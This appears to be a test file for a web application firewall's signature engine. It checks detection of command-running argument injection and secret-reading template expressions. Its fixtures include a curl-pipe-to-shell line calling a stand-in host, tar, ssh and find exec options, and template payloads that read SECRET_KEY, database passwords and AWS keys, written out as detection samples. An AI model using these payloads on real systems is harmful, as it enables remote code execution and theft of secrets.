@@ -1,0 +1,87 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template payloads are literal text
+/**
+ * core/signatures/argument-injection.ts: options that make a program run a
+ * command (932231) and template expressions that read the application's
+ * secrets (934170); sentences that name the options and settings that are
+ * no secret pass.
+ */
+import { describe, expect, it } from "vitest";
+import { execOption, templateSecret } from "../../../core/signatures/argument-injection.ts";
+import { createSignatureEngine } from "../../../core/signatures/index.ts";
+
+const engine = createSignatureEngine();
+const rules = (body: unknown): string[] =>
+  engine
+    .inspect(
+      {
+        method: "POST",
+        path: "/api/x",
+        rawPath: "/api/x",
+        query: [],
+        headers: [["host", "app.example"]],
+        body: {
+          bytes: new TextEncoder().encode(JSON.stringify(body)),
+          contentType: "application/json",
+          truncated: false,
+        },
+      },
+      { paranoia: 1, threshold: 5 },
+    )
+    .matches.map((m) => m.rule);
+
+describe("argument injection", () => {
+  it("names options that run what follows them", () => {
+    for (const v of [
+      "--exec 'curl -s http://x.example/y | sh'",
+      "--checkpoint-action=exec=sh /tmp/r.sh",
+      '-oProxyCommand="sh -c id"',
+      "--use-compress-program='sh -c id'",
+      "x -exec rm {} ;",
+    ])
+      expect(execOption(v), v).toBe(true);
+  });
+
+  it("leaves sentences and other options alone", () => {
+    for (const v of [
+      "use --exec to run a command",
+      "the -exec flag of find",
+      "--output result.mp4",
+      "pre-execution",
+      "",
+    ])
+      expect(execOption(v), v).toBe(false);
+  });
+
+  it("is 932231 in a body field, an array element included", () => {
+    expect(rules({ extra_args: "--exec 'curl -s http://x.example/y | sh'" })).toContain("932231");
+    expect(rules({ paths: ["/data", "--checkpoint=1", "--checkpoint-action=exec=sh /tmp/r.sh"] })).toContain("932231");
+    expect(rules({ extra_args: "--format mp4 --output video.mp4" })).toEqual([]);
+  });
+});
+
+describe("template expressions that read secrets", () => {
+  it("names settings and config secrets", () => {
+    for (const v of [
+      "{{ settings.SECRET_KEY }}",
+      "Thanks {{ settings.DATABASES.default.PASSWORD }}",
+      "{{config.SECRET_KEY}}",
+      "{{ settings.EMAIL_HOST_PASSWORD }}",
+      "{% if settings.AWS_SECRET_ACCESS_KEY %}",
+    ])
+      expect(templateSecret(v), v).toBe(true);
+  });
+
+  it("leaves settings that are no secret alone", () => {
+    for (const v of [
+      "{{ settings.site_name }}",
+      "{{ settings.THEME }}",
+      "{{ config.title }}",
+      "SECRET_KEY rotation notes",
+    ])
+      expect(templateSecret(v), v).toBe(false);
+  });
+
+  it("is 934170 in a body field", () => {
+    expect(rules({ footer: "Thank you! {{ settings.SECRET_KEY }}" })).toContain("934170");
+  });
+});
